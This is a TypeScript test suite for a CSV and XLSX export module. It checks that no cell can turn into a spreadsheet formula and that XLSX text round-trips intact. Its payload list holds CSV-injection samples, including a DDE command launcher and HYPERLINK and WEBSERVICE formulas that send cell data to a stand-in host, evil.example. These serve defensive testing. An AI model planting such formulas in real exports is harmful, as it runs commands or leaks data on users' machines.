// Files are read back by parsers that share nothing with the writers: RFC 4180 and a spreadsheet's own way with text, and
// a zip directory with its sheets as XML.
import { crc32, inflateRawSync } from 'node:zlib';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { writeCsv } from './csv.ts';
import type { Cell } from './table.ts';
import { writeXlsx } from './xlsx.ts';

async function* rowsOf(rows: readonly (readonly Cell[])[]): AsyncGenerator<readonly Cell[]> {
  for (const row of rows) yield row;
}

async function gather(chunks: AsyncIterable<Buffer>): Promise<Buffer> {
  const parts: Buffer[] = [];
  for await (const chunk of chunks) parts.push(chunk);
  return Buffer.concat(parts);
}

const columns = [{ header: 'Namn' }, { header: 'Värde', width: 40 }];

// -- CSV

/** RFC 4180 to the letter: every field must be quoted, every line must end with CRLF. */
function readStrict(text: string): string[][] {
  const lines: string[][] = [];
  let at = 0;
  while (at < text.length) {
    const line: string[] = [];
    for (;;) {
      if (text[at] !== '"') throw new Error(`a field at ${at} is not quoted`);
      let value = '';
      for (at += 1; ; at += 1) {
        if (at >= text.length) throw new Error('a field does not end');
        if (text[at] !== '"') value += text[at];
        else if (text[at + 1] === '"') {
          value += '"';
          at += 1;
        } else break;
      }
      line.push(value);
      at += 1;
      if (text[at] === ',') at += 1;
      else if (text.startsWith('\r\n', at)) break;
      else throw new Error(`after a field at ${at} stands ${JSON.stringify(text[at])}`);
    }
    at += 2;
    lines.push(line);
  }
  return lines;
}

/** As a spreadsheet reads text with a separator of its country's: a quote counts only at the start of a cell. */
function readAsSpreadsheet(text: string, separator: string): string[] {
  const cells: string[] = [];
  let at = 0;
  while (at < text.length) {
    let cell = '';
    if (text[at] === '"') {
      for (at += 1; at < text.length; at += 1) {
        if (text[at] !== '"') cell += text[at];
        else if (text[at + 1] === '"') {
          cell += '"';
          at += 1;
        } else {
          at += 1;
          break;
        }
      }
    }
    while (at < text.length && text[at] !== separator && text[at] !== '\r' && text[at] !== '\n') {
      cell += text[at];
      at += 1;
    }
    at += 1;
    cells.push(cell);
  }
  return cells;
}

const isFormula = (cell: string): boolean => /^[\s\p{C}]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/u.test(cell);

const signs = ['=', '+', '-', '@', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20'];
const before = ['', ' ', '\u00A0', '\t', '\r', '\n', '\r\n', '\u200B', 'a;', 'a; ', 'a\t', 'a\n', 'a;\n', '\0', '";'];
const payloads = [
  ...signs.flatMap((sign) => before.map((start) => `${start}${sign}1+1`)),
  `=cmd|' /C calc'!A0`,
  '=HYPERLINK("https://evil.example/?q="&A1,"Klicka")',
  '=WEBSERVICE("https://evil.example")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '+46701234567',
  "-2+3+cmd|' /C calc'!A0",
  '=1+1";=1+1',
];

describe('CSV', () => {
  test('T17 120 and more formula payloads: no cell is a formula, whatever separates cells', async () => {
    expect(payloads.length).toBeGreaterThanOrEqual(60);
    const rows = payloads.map((payload) => ['Anna', payload]);
    const text = (await gather(writeCsv(columns, rowsOf(rows)))).toString('utf8').slice(1);
    const strict = readStrict(text);
    expect(strict).toHaveLength(payloads.length + 1);
    expect(strict.flat().filter(isFormula)).toEqual([]);
    for (const separator of [',', ';', '\t']) expect(readAsSpreadsheet(text, separator).filter(isFormula)).toEqual([]);
    // They would have been formulas: the reader sees them.
    expect(payloads.filter((one) => readAsSpreadsheet(`"Anna","${one}"`, ',').some(isFormula)).length).toBeGreaterThan(
      60,
    );
  });

  test('T17 a cell that begins with a tab or a carriage return gets an apostrophe too, and headings as well', async () => {
    const text = (await gather(writeCsv([{ header: '=1' }], rowsOf([['\tabc'], ['\rabc'], [' \tabc']])))).toString(
      'utf8',
    );
    expect(readStrict(text.slice(1))).toEqual([["'=1"], ["'\tabc"], ["'\rabc"], ["' \tabc"]]);
  });

  test('every field is quoted, lines end with CRLF, å ä ö come after a byte order mark, and everything else is as it was', async () => {
    const rows = [
      ['Åsa "Öga" Ärlig', 'a,b;c\nd'],
      [null, ''],
      ['a-b', 'x=1'],
    ];
    const file = await gather(writeCsv(columns, rowsOf(rows)));
    expect([...file.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(readStrict(file.toString('utf8').slice(1))).toEqual([
      ['Namn', 'Värde'],
      ['Åsa "Öga" Ärlig', 'a,b;c\nd'],
      ['', ''],
      ['a-b', 'x=1'],
    ]);
  });

  test('T17 no text whatever becomes a formula', async () => {
    const text = fc.string({
      unit: fc.constantFrom(...'=+-@;\t\r\n "\'a,\u00A0\u200B\uFF1D'.split('')),
      maxLength: 12,
    });
    await fc.assert(
      fc.asyncProperty(fc.array(text, { minLength: 1, maxLength: 4 }), async (row) => {
        const written = (await gather(writeCsv([], rowsOf([row])))).toString('utf8').slice(3);
        expect(readStrict(written)[0]).toHaveLength(row.length);
        expect(readStrict(written).flat().filter(isFormula)).toEqual([]);
        for (const separator of [',', ';', '\t']) {
          expect(readAsSpreadsheet(written, separator).filter(isFormula)).toEqual([]);
        }
      }),
      { numRuns: 2000 },
    );
  });
});

// -- XLSX

/** By the directory at the end of the archive, with checksums and sizes compared. */
function unzip(file: Buffer): Map<string, string> {
  const end = file.lastIndexOf(Buffer.from('PK\x05\x06', 'latin1'));
  const files = new Map<string, string>();
  let at = file.readUInt32LE(end + 16);
  for (let left = file.readUInt16LE(end + 10); left > 0; left -= 1) {
    expect(file.readUInt32LE(at)).toBe(0x02014b50);
    const [crc, packed, size] = [file.readUInt32LE(at + 16), file.readUInt32LE(at + 20), file.readUInt32LE(at + 24)];
    const [nameLength, more] = [file.readUInt16LE(at + 28), file.readUInt16LE(at + 30) + file.readUInt16LE(at + 32)];
    const name = file.toString('utf8', at + 46, at + 46 + nameLength);
    const local = file.readUInt32LE(at + 42);
    expect(file.readUInt32LE(local)).toBe(0x04034b50);
    const data = local + 30 + file.readUInt16LE(local + 26) + file.readUInt16LE(local + 28);
    const content = inflateRawSync(file.subarray(data, data + packed));
    expect([content.length, crc32(content)]).toEqual([size, crc]);
    files.set(name, content.toString('utf8'));
    at += 46 + nameLength + more;
  }
  return files;
}

/** The cells of a sheet by their place. A cell that is not typed text, and a formula, end the test. */
function readSheet(xml: string, width: number): string[][] {
  const rows: string[][] = [];
  for (const [, row = ''] of xml.matchAll(/<row [^>]*>(.*?)<\/row>/gs)) {
    const cells = Array.from({ length: width }, () => '');
    for (const [, attributes = '', inside = ''] of row.matchAll(/<c ([^>]*)>(.*?)<\/c>/gs)) {
      expect(attributes).toContain('t="inlineStr"');
      const place = /r="([A-Z]+)(\d+)"/.exec(attributes);
      expect(Number(place?.[2])).toBe(rows.length + 1);
      const column = Array.from(place?.[1] ?? '').reduce((sum, letter) => sum * 26 + letter.charCodeAt(0) - 64, 0) - 1;
      const text = /^<is><t xml:space="preserve">([^<]*)<\/t><\/is>$/s.exec(inside)?.[1];
      if (text === undefined) throw new Error(`no text cell: ${inside}`);
      cells[column] = textOf(text);
    }
    rows.push(cells);
  }
  return rows;
}

function textOf(xml: string): string {
  // A parser of XML reads a lone carriage return as a line feed, and refuses what XML cannot hold.
  if (/(?![\t\n\r])[^\P{Cc}\u007F-\u009F]|[\uFFFE\uFFFF]|\p{Surrogate}/u.test(xml)) throw new Error('not XML');
  return xml
    .replaceAll(/\r\n?/g, '\n')
    .replaceAll(/&(lt|gt|quot|amp);/g, (_, name: string) => ({ lt: '<', gt: '>', quot: '"', amp: '&' })[name] ?? '')
    .replaceAll(/_x([0-9A-F]{4})_/g, (_, code: string) => String.fromCharCode(parseInt(code, 16)));
}

const sheetNames = (workbook = ''): (string | undefined)[] =>
  [...workbook.matchAll(/<sheet name="([^"]*)"/g)].map(([, name]) => name);

describe('XLSX', () => {
  test('T17 typed text without loss: what goes in comes out, formulas, plus signs, zeros and control characters included', async () => {
    const rows = [
      ...payloads.map((payload) => [payload, '007']),
      ['+46 70 123 45 67', '_x000D_ and _x0041_ as text'],
      ['a\rb\r\nc\n\td', '<b>&amp;"\'</b> \u0000\u0001\u001F\uFFFE\uD800'],
      ['😀 Åsa', ' spaces  '],
    ];
    const files = unzip(await gather(writeXlsx('Historik', columns, rowsOf(rows))));
    expect([...files.keys()].toSorted()).toEqual([
      '[Content_Types].xml',
      '_rels/.rels',
      'xl/_rels/workbook.xml.rels',
      'xl/styles.xml',
      'xl/workbook.xml',
      'xl/worksheets/sheet1.xml',
    ]);
    expect(readSheet(files.get('xl/worksheets/sheet1.xml') ?? '', 2)).toEqual([['Namn', 'Värde'], ...rows]);
    expect(files.get('xl/worksheets/sheet1.xml')).not.toContain('<f');
    expect(sheetNames(files.get('xl/workbook.xml'))).toEqual(['Historik']);
  });

  test('T17 any text comes back as it was', async () => {
    const text = fc.oneof(
      fc.string({ unit: 'binary', maxLength: 20 }),
      fc.string({ unit: fc.constantFrom('_', 'x', '0', '0', 'A', '\r', '\uDC00', '<'), maxLength: 16 }),
    );
    await fc.assert(
      fc.asyncProperty(fc.array(fc.tuple(text, text), { maxLength: 5 }), async (rows) => {
        const files = unzip(await gather(writeXlsx('A', columns, rowsOf(rows))));
        expect(readSheet(files.get('xl/worksheets/sheet1.xml') ?? '', 2).slice(1)).toEqual(rows);
      }),
      { numRuns: 60 },
    );
  });

  test('what a sheet cannot hold stands on the next one, each with its headings', async () => {
    const rows = Array.from({ length: 7 }, (_, index) => [`rad ${index}`, null]);
    const files = unzip(await gather(writeXlsx('Körningar: alla?', columns, rowsOf(rows), 4)));
    expect(sheetNames(files.get('xl/workbook.xml'))).toEqual([
      'Körningar  alla',
      'Körningar  alla 2',
      'Körningar  alla 3',
    ]);
    const sheets = [1, 2, 3].map((number) => readSheet(files.get(`xl/worksheets/sheet${number}.xml`) ?? '', 2));
    expect(sheets.map((sheet) => sheet.length)).toEqual([4, 4, 2]);
    expect(sheets.flatMap((sheet) => sheet.slice(1).map(([first]) => first))).toEqual(rows.map(([first]) => first));
  });

  test('an empty table is a workbook with headings', async () => {
    const files = unzip(await gather(writeXlsx('Historik', columns, rowsOf([]))));
    expect(readSheet(files.get('xl/worksheets/sheet1.xml') ?? '', 2)).toEqual([['Namn', 'Värde']]);
  });

  test('F58 rows that fail on the way end the file with their error, and nobody reads on', async () => {
    let ended = false;
    async function* failing(): AsyncGenerator<readonly Cell[]> {
      try {
        for (let row = 0; row < 50_000; row += 1) yield [`${row}`, 'x'.repeat(50)];
        throw new Error('disk full');
      } finally {
        ended = true;
      }
    }
    await expect(gather(writeXlsx('A', columns, failing()))).rejects.toThrow('disk full');
    await expect(gather(writeCsv(columns, failing()))).rejects.toThrow('disk full');
    ended = false;
    for await (const _ of writeXlsx('A', columns, failing())) break;
    expect(ended).toBe(true);
  });
});
